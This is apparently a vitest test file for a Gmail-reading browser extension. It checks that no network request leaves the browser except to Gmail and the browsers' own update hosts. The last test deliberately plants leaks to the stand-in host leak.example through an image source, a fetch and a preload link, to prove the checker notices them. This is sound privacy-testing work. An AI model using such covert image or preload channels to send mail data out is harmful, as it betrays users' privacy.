/** Nothing leaves the browser: every way out leads to a proxy that refuses everything and writes it down. */
import { expect, test } from "vitest";
import { POPUP } from "../driver/extension-page.ts";
import { MailReader } from "../driver/reader.ts";
import { until } from "../driver/wait.ts";
import { KOHNAN_SUBJECT } from "../stage/mailbox/demo.ts";
import { says, startBrowser } from "./session.ts";

/** What the browsers ask for by themselves, with or without an extension; in `about:blank` as well. */
const OF_THE_BROWSER = [
  // Chromium: its own updates and sign-in, and a connection that it opens ahead to the host of the page.
  /(^|\/\/|\.)(googleapis|gvt1)\.com[:/]/,
  /^(accounts|clients\d+|www)\.google\.com:443$/,
  /^http:\/\/clients\d+\.google\.com\//,
  /^mail\.google\.com:443$/,
  // Firefox: its lists, add-ons and checks for a connection.
  /(^|\/\/|\.)mozilla\.(org|com|net)[:/]/,
  /(^|\/\/)detectportal\.firefox\.com[:/]/,
];

const isForeign = (address: string) => !OF_THE_BROWSER.some((own) => own.test(address));

test("from the list to the answers, Mioboe asks nobody anything", async () => {
  const browser = await startBrowser();
  const tab = await browser.openMailbox();
  const reader = new MailReader(tab);
  await reader.markOn(KOHNAN_SUBJECT);
  await reader.open(KOHNAN_SUBJECT);
  expect((await reader.panel()).buttons).toContain(says("panel_signature"));
  await reader.press(says("panel_why"));
  await reader.press(says("panel_check_passwords"));
  await tab.bringToFront();
  await reader.press(says("panel_answer_not_mine"));
  await reader.panelSaying(says("panel_undo"));
  const popup = await browser.openExtensionPage(POPUP);
  await until("the popup", () => popup.evaluate(() => document.body.textContent?.trim() !== ""));
  expect(browser.outgoing.filter(isForeign)).toEqual([]);
  // At Gmail's own address, nothing was asked for but the page and its pictures.
  const asked = browser.stage.asked.filter((address) => !/\.gif$|\/favicon\.ico$/.test(address));
  expect(asked).toEqual([browser.stage.url("").replace(/#.*/, "")]);
});

test("“Check the sender’s signature” asks Gmail, and Gmail alone, for the original of that mail", async () => {
  const browser = await startBrowser();
  const tab = await browser.openMailbox();
  const reader = new MailReader(tab);
  await reader.open(KOHNAN_SUBJECT);
  await reader.panel();
  const before = browser.stage.asked.length;
  await reader.press(says("panel_signature"));
  await reader.panelSaying(says("panel_signature_unsigned", { by: "Gmail", domain: "value-wallet.com" }));
  const asked = browser.stage.asked.slice(before).filter((address) => !/\.gif$|\/favicon\.ico$/.test(address));
  expect(asked).toHaveLength(1);
  expect(asked[0]).toMatch(/^https:\/\/mail\.google\.com\/mail\/u\/0\/\?ik=\w+&view=om&permmsgid=msg-f(?::|%3A)\d+$/);
  expect(browser.outgoing.filter(isForeign)).toEqual([]);
});

test("something that does leave is noticed by this test", async () => {
  const browser = await startBrowser();
  const popup = await browser.openExtensionPage(POPUP);
  await popup.evaluate(() => {
    // From a page of the extension a picture is the freest way out that its own policy might leave open.
    new Image().src = "https://leak.example/?mail";
    fetch("https://leak.example/").catch(() => undefined);
  });
  const tab = await browser.openMailbox();
  await tab.evaluate(() => {
    const link = document.createElement("link");
    Object.assign(link, { rel: "preload", as: "image", href: "https://leak.example/" });
    document.head.append(link);
  });
  await until("the leak is written down", async () =>
    browser.outgoing.some((address) => address.includes("leak.example")),
  );
  expect(browser.outgoing.filter(isForeign)).not.toEqual([]);
});
